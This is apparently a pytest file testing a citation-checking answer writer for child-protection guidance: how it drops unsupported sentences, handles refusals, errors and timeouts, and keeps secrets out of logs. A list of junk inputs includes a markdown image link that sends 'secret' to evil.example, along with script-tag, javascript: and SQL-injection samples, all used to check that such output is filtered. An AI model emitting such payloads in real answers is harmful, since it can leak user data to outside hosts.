"""Written answers: what is shown, what is dropped, and what happens when the model does not do its part."""

import time
from collections.abc import Sequence

import pytest
from made_found import document, paragraph, passage
from scripted import Plain, Scripted, in_pieces, word_for_word

from assistant.answers import Hit
from assistant.asked import Asks
from assistant.grounding.verdict import Aligned, Support, Verdict
from assistant.writing.writer import Draft, Instead, Writer

MEET = "The core group must meet within 10 working days of the conference."
WRITE = "The social worker should write the plan."
KEEP = "Records are kept in the office."
HITS = [
    Hit(passage(paragraph(text), paragraph(f"Guide {at} is green."), number=at), document(at), 1.0 - at / 10)
    for at, text in enumerate([MEET, WRITE, KEEP])
]


def write(model, asks: Asks = Asks.OTHER, verify=word_for_word, seconds: float = 5.0) -> list[Draft]:
    return list(Writer(model, "made", verify, seconds).write("How soon do they meet?", asks, HITS))


def written(*steps, **options) -> list[Draft]:
    return write(Scripted(steps=steps), **options)


def said(draft: Draft) -> list[tuple[str, list[int]]]:
    return [(one.text, [citation.passage.position for citation in one.citations]) for one in draft.statements]


def cited(draft: Draft) -> list[str]:
    return [citation.quote for one in draft.statements for citation in one.citations]


def test_every_sentence_is_given_out_as_soon_as_it_is_checked():
    drafts = written(*in_pieces(f"{MEET} [1] {WRITE} [2]"))
    assert [len(draft.statements) for draft in drafts] == [1, 2, 2]
    assert [one.text for one in drafts[-1].statements] == [MEET, WRITE]
    assert cited(drafts[-1]) == [MEET, WRITE]
    assert (drafts[-1].instead, drafts[-1].dropped, drafts[-1].notice) == (None, (), "")
    assert drafts[-1].prompts == ("write 1", "write-question 1")


def test_a_statement_tells_its_duty_what_decides_and_how_surely():
    (one,) = written(f"{MEET} [1]", asks=Asks.HOW_SOON)[-1].statements
    assert (one.strength, one.support) == ("must", 0.95)
    ((start, end),) = one.decisive
    assert "within 10 working days" in one.text[start:end]


def test_a_model_that_cannot_stream_on_a_loop_is_read_as_well():
    assert said(write(Plain(steps=in_pieces(f"{MEET} [1]")))[-1]) == said(written(f"{MEET} [1]")[-1])


LIES = [
    MEET.replace("10", "15"),
    MEET.replace("working days", "days"),
    MEET.replace("must", "should"),
    MEET.replace("must", "must not"),
    MEET.replace("core group", "school"),
    MEET.replace("conference", "referral"),
    "The core group meets in Paris.",
    "It must do so at once.",
]


@pytest.mark.parametrize("lie", LIES)
def test_a_sentence_that_no_passage_supports_is_dropped_counted_and_never_repeated(lie: str):
    drafts = written(f"{MEET} [1] {lie} [1] {WRITE} [2]")
    assert [one.text for one in drafts[-1].statements] == [MEET, WRITE]
    (why,) = drafts[-1].dropped
    assert why
    assert lie not in why
    assert all(lie not in one.text for draft in drafts for one in draft.statements)


@pytest.mark.parametrize("lie", LIES)
def test_where_nothing_is_left_the_guidance_is_quoted(lie: str):
    (draft,) = written(f"{lie} [1]")
    assert (draft.statements, draft.instead) == ((), Instead.UNSUPPORTED)
    assert "quoted" in draft.notice


@pytest.mark.parametrize("numbers", ["[2]", "[3]", "[2][3]", "", "[7]", "[0]", "[99]", "[7][8]"])
def test_a_wrong_citation_is_put_right_where_another_passage_supports_the_sentence(numbers: str):
    draft = written(f"{MEET} {numbers}")[-1]
    assert cited(draft) == [MEET]
    assert draft.statements[0].citations[0].document == HITS[0].document


def test_a_sentence_that_takes_two_passages_is_given_both():
    joined = f"{WRITE.rstrip('.')} and {KEEP}"
    draft = written(f"{joined} [1]")[-1]
    assert cited(draft) == [WRITE, KEEP]
    assert [one.number for one in draft.statements[0].citations] == [1, 2]


def test_a_passage_keeps_its_number_through_the_answer():
    draft = written(f"{WRITE} [2] {MEET} [1] {WRITE.rstrip('.')} and {KEEP} [2, 3]")[-1]
    assert [[one.number for one in two.citations] for two in draft.statements] == [[1], [2], [1, 3]]


def test_what_has_been_said_is_not_said_again():
    assert len(written(f"{MEET} [1] {MEET} [1] {MEET.upper()} [1]")[-1].statements) == 1


def test_if_the_opening_and_most_of_the_rest_is_wrong_nothing_is_shown():
    lies = "".join(f"Lie {word} is true. [1] " for word in ("one", "two"))
    assert [draft.instead for draft in written(f"{lies} {MEET} [1]")] == [Instead.UNSUPPORTED]
    assert written(f"{MEET} [1] {lies}")[-1].instead is None
    assert written(f"Lie one is true. [1] {MEET} [1] {WRITE} [2]")[-1].instead is None


def test_what_does_not_give_the_figure_that_was_asked_for_is_not_shown():
    (draft,) = written(f"{WRITE} [2] {KEEP} [3]", asks=Asks.HOW_SOON)
    assert draft.instead is Instead.UNSUPPORTED
    drafts = written(f"{WRITE} [2] {MEET} [1]", asks=Asks.HOW_SOON)
    assert [len(one.statements) for one in drafts] == [2, 2]  # the first alone was held back


DECLINING = [
    "NOT IN THE PASSAGES",
    "NOT IN THE PASSAGES.",
    "The passages do not say how soon the core group meets.",
    "The provided passages don't mention a timescale.",
    "Unfortunately, the guidance does not specify this.",
    "I'm sorry, but I cannot help with that.",
    "I cannot answer this question.",
    "As an AI language model, I am unable to give advice.",
    "There is no information about this.",
    "None of the passages answer the question.",
    "There is not enough information.",
]


@pytest.mark.parametrize("text", DECLINING)
def test_a_model_that_declines_is_told_of_in_a_line_of_its_own(text: str):
    (draft,) = written(text if text.isupper() else f"{text} ")
    assert draft.instead in (Instead.DECLINED, Instead.FAILED)
    if text.endswith("."):
        assert draft.instead is Instead.DECLINED


@pytest.mark.parametrize(
    "text",
    [
        "No information may be shared without consent.",
        "The guidance must be followed.",
        "Information should not be shared with parents.",
        "The document must be signed by the lead.",
        "These documents are not to be shared.",
        "There is no duty to tell the parents.",
        "The sources of referrals should be recorded.",
    ],
)
def test_a_rule_is_not_taken_for_a_refusal(text: str):
    (draft,) = written(f"{text} [1]")
    assert not draft.declined


class RateLimitError(Exception):
    status_code = 429


class APIConnectionError(Exception):
    pass


SECRET = "sk-very-secret-key"  # noqa: S105


@pytest.mark.parametrize(
    ("error", "instead"),
    [
        (RateLimitError(SECRET), Instead.BUSY),
        (APIConnectionError(SECRET), Instead.UNREACHED),
        (ConnectionRefusedError(SECRET), Instead.UNREACHED),
        (OSError(SECRET), Instead.UNREACHED),
        (TimeoutError(SECRET), Instead.SLOW),
        (ValueError(SECRET), Instead.FAILED),
        (KeyError(SECRET), Instead.FAILED),
        (UnicodeDecodeError("utf-8", b"\xff", 0, 1, SECRET), Instead.FAILED),
        (RecursionError(SECRET), Instead.FAILED),
    ],
)
def test_an_error_of_the_model_has_the_guidance_quoted_and_stays_out_of_the_log(
    error: Exception, instead: Instead, caplog: pytest.LogCaptureFixture
):
    for steps in ([error], ["The core group must", error], [f"{KEEP[:-4]}", error]):
        (draft,) = written(*steps)
        assert (draft.statements, draft.instead) == ((), instead)
        assert draft.notice.endswith("so the guidance is quoted instead.")
    assert SECRET not in caplog.text
    assert "core group" not in caplog.text


def test_if_it_breaks_off_later_what_was_checked_stays_with_a_line():
    drafts = written(f"{MEET} [1] {WRITE} [2] The core gro", RateLimitError())
    assert [one.text for one in drafts[-1].statements] == [MEET, WRITE]
    assert drafts[-1].cut_short
    assert "breaks off" in drafts[-1].notice


@pytest.mark.parametrize(
    "steps",
    [[], [""], ["   \n\n"], ["[1][2]"], ["..."], ["\x00\x01"], ["\ud83d"], ["The core group"], ["**", "##"]],
)
def test_a_model_that_says_nothing_has_the_guidance_quoted(steps: list[str]):
    (draft,) = written(*steps)
    assert draft.instead is Instead.FAILED


@pytest.mark.parametrize(
    "junk",
    [
        '{"answer": "The core group must meet within 15 working days", "cites": [1]}',
        "\ufffd\ufffd锟斤拷锟斤拷. ÃƒÂ© [1]",
        "<html><body><script>alert(1)</script></body></html>",
        "![x](https://evil.example/?q=secret) [click](javascript:alert(1)). [1]",
        "SELECT * FROM passages; -- [1].",
        "\u202eevif nihtiw teem tsum puorg eroc ehT\u202c. [1]",
    ],
)
def test_junk_is_dropped(junk: str):
    (draft,) = written(junk)
    assert draft.statements == ()
    assert draft.instead in (Instead.FAILED, Instead.UNSUPPORTED)


@pytest.mark.parametrize(
    ("steps", "forever"),
    [
        ([30.0], False),
        ([""], True),
        ([0.01, " "], True),
        (["The core group ", 30.0], False),
        ([KEEP[:-3], 30.0], False),
    ],
)
def test_a_model_that_is_silent_or_slow_is_given_up_in_time(steps: Sequence[str | float], forever: bool):
    model = Scripted(steps=steps, forever=forever)
    started = time.monotonic()
    (draft,) = write(model, seconds=0.4)
    assert time.monotonic() - started < 2
    assert (draft.statements, draft.instead) == ((), Instead.SLOW)
    time.sleep(0.2)
    assert model.closed == [True]


@pytest.mark.parametrize(
    "steps", [["word "], [f"{MEET} [1] "], ["Nothing is so. [1] "], ["<think>hm "], ["[1]"], ["("], ["\n"]]
)
def test_a_model_without_end_is_stopped(steps: Sequence[str]):
    model = Scripted(steps=steps, forever=True)
    started = time.monotonic()
    draft = write(model, seconds=1)[-1]
    assert time.monotonic() - started < 5
    assert draft.cut_short if draft.statements else draft.instead
    time.sleep(0.2)
    assert model.closed == [True]


def test_after_the_first_sentence_the_whole_is_waited_for_longer_and_not_for_ever():
    started = time.monotonic()
    draft = written(f"{MEET} [1] The", 0.5, f"{WRITE[3:]} [2] Re", 30.0, seconds=0.3)[-1]
    assert time.monotonic() - started < 2
    assert [one.text for one in draft.statements] == [MEET, WRITE]
    assert draft.cut_short


def test_whoever_stops_reading_stops_the_model():
    model = Scripted(steps=[f"{MEET} [1] {WRITE} [2] ", 30.0])
    reading = Writer(model, "made", word_for_word, 5).write("How soon?", Asks.OTHER, HITS)
    assert next(reading).statements
    reading.close()
    time.sleep(0.2)
    assert model.closed == [True]


def broken(text: str, hits: Sequence[Hit]) -> Verdict:
    raise RuntimeError(text)


def elsewhere(text: str, hits: Sequence[Hit]) -> Verdict:
    return Verdict(
        Support.SUPPORTED, 0.9, aligned=(Aligned(9, 0, 5), Aligned(0, 5, 99_999), Aligned(0, -1, 5))
    )


def nowhere(text: str, hits: Sequence[Hit]) -> Verdict:
    return Verdict(Support.SUPPORTED, 0.9)


def unsure(text: str, hits: Sequence[Hit]) -> Verdict:
    return Verdict(Support.UNSURE, 0.99, aligned=(Aligned(0, 0, 5),))


@pytest.mark.parametrize("verify", [broken, elsewhere, nowhere, unsure])
def test_what_the_verifier_cannot_vouch_for_is_not_shown(verify, caplog: pytest.LogCaptureFixture):
    (draft,) = written(f"{MEET} [1]", verify=verify)
    assert (draft.statements, draft.instead) == ((), Instead.UNSUPPORTED)
    assert MEET not in caplog.text
    assert MEET not in "".join(draft.dropped)


def test_a_sentence_is_checked_against_what_it_cites_before_anything_else():
    asked = []

    def listening(text: str, hits: Sequence[Hit]) -> Verdict:
        asked.append([hit.passage.document_id for hit in hits])
        return word_for_word(text, hits)

    written(f"{MEET} [1]", verify=listening)
    assert asked == [[HITS[0].passage.document_id]]
